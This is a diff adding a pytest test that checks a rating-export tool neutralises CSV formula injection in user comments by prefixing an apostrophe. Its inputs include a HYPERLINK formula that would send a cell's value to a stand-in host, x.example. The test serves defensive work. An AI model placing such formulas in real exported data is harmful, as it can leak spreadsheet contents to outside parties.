@@ -116,3 +116,27 @@ def test_misuse_exits_2(capsys: pytest.CaptureFixture[str], rated_db: str, args:
     assert code == 2
     assert out == ""
     assert err.strip()
+
+
+@pytest.mark.parametrize("comment", ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+2", "-2+3", "@SUM(A1)"])
+def test_a_formula_in_a_comment_is_written_as_text(
+    capsys: pytest.CaptureFixture[str],
+    sessions: sessionmaker[Session],
+    demo_cases: dict[str, str],
+    clock: Clock,
+    db_path: Path,
+    comment: str,
+) -> None:
+    """A comment a spreadsheet would run (OWASP CSV injection) reaches the file behind an apostrophe; JSON keeps it."""
+    with sessions.begin() as session:
+        pad = send_to_pad(session, demo_cases["受理"], DESK, clock())
+        choice = RatingChoice(Level.DISSATISFIED, ("流程太复杂",), comment)
+        record_rating(session, pad.request_id, choice, DESK, clock(), office_calendar(session))
+    args = ("--from", "2026-11-20", "--to", "2026-11-20", "--db", f"sqlite:///{db_path}")
+    code, out, _ = export(capsys, *args, "--format", "csv")
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert row["comment"] == "'" + comment
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+    code, out, _ = export(capsys, *args, "--format", "json")
+    assert json.loads(out)[0]["comment"] == comment  # the record itself is not changed
